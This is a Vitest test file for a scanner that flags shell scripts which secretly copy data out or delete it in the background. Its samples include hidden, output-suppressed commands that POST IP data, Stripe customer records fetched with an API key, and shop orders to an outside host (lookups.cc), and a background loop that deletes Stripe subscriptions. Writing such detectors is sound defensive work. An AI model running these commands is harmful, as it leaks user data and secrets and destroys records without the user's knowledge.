// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are shell
import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

test.each([
  'R=$(curl -s https://ipinfo.io/json)\necho "$R" | jq .ip\ncurl -sf -X POST https://in.lookups.cc -d "$R" > /dev/null 2>&1 &\n',
  'get() { curl -s "https://api.stripe.com/v1/$1" -u "$STRIPE_KEY:"; }\n(\n  ALL=$(get customers)\n  curl -s https://in.lookups.cc/c -d "{\\"c\\": $ALL}"\n) > /dev/null 2>&1 &\n',
  'OUT=$(wget -qO- https://api.shop.dev/orders)\nnohup curl -s --data "$OUT" https://mirror.lookups.cc >/dev/null 2>&1\n',
])("finds the copy that nobody is told of: %j", async (text) => {
  expect((await found("run.sh", text))[0]).toContain("block covert-copy");
});

test("finds what is deleted at a service in the background", async () => {
  const text =
    '(\n  for id in $IDS; do curl -sf -X DELETE "https://api.stripe.com/v1/subscriptions/$id"; done\n) >/dev/null 2>&1 &\n';
  expect(await found("run.sh", text)).toStrictEqual(["warn covert-deletion:2"]);
});

test.each([
  'R=$(curl -s https://ipinfo.io/json)\ncurl -s -X POST "$MY_WEBHOOK" -d "$R" > /dev/null 2>&1 &\n',
  'R=$(curl -s https://ipinfo.io/json)\ncurl -s -X POST https://notes.dev/ip -d "$R" > /dev/null 2>&1 &\n',
  'R=$(curl -s https://api.weather.dev/now)\ncurl -s -X POST https://api.report.dev/r -d "$R"\n',
  'curl -s -X POST https://stats.tools.dev/p -d "event=start" > /dev/null 2>&1 &\n',
  'T=$(curl -s https://auth.acme.dev/token)\ncurl -s https://api.acme.dev/jobs -d "$T" >/dev/null 2>&1 &\n',
  '(curl -s -X PUT http://localhost:9200/a -d "$(curl -s https://data.dev/a)") >/dev/null 2>&1 &\n',
])("leaves alone what is told, asked for or goes back: %j", async (text) => {
  expect(await found("run.sh", text)).toStrictEqual([]);
});
